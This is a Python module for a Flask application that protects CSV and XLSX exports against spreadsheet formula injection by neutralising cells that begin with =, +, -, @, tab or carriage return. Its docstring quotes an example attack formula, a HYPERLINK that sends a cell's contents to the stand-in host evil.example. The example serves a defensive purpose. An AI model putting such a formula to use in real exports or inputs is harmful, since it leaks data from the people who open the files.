"""Exports that a spreadsheet opens as data, never as formulas (CSV and XLSX).

A call's caller ID, a flow's tag or an agent code comes from outside: a text such as
``=HYPERLINK("http://evil.example/?"&A1, "…")`` or ``@SUM(…)`` would become a live formula in Excel
or LibreOffice when an operator opens the export. Every text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is neutralised: in CSV it gets a leading apostrophe (the
spreadsheets' own "this is text" mark; the cell then reads ``'+8613…``), in XLSX it is written as
a string cell with the quote-prefix style, so it shows exactly as it is and is never evaluated.
Numbers, dates and other texts are left as they are.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from flask import Response
from openpyxl.cell import WriteOnlyCell
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _risky(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_cell(value: Any) -> Any:
    return "'" + value if _risky(value) else value


def csv_response(filename: str, rows: Iterable[Iterable[Any]]) -> Response:
    """``rows`` (the header first) as a UTF-8 CSV download with a BOM, so that Excel reads Chinese right."""
    out = io.StringIO()
    out.write("\ufeff")
    w = csv.writer(out)
    for row in rows:
        w.writerow([csv_cell(v) for v in row])
    return Response(out.getvalue(), mimetype="text/csv; charset=utf-8",
                    headers={"Content-Disposition": f"attachment; filename={filename}"})


def append_row(ws: Worksheet, row: Iterable[Any]) -> None:
    """``ws.append(row)`` with every risky text as a plain string cell (never a formula)."""
    cells = []
    for value in row:
        if _risky(value):
            cell = WriteOnlyCell(ws, value)
            cell.data_type = "s"                    # openpyxl made "=..." a formula
            cell.quotePrefix = True
            cells.append(cell)
        else:
            cells.append(value)
    ws.append(cells)


def xlsx_response(wb: Workbook, filename: str) -> Response:
    buf = io.BytesIO()
    wb.save(buf)
    return Response(buf.getvalue(), mimetype=XLSX_MIMETYPE,
                    headers={"Content-Disposition": f"attachment; filename={filename}"})
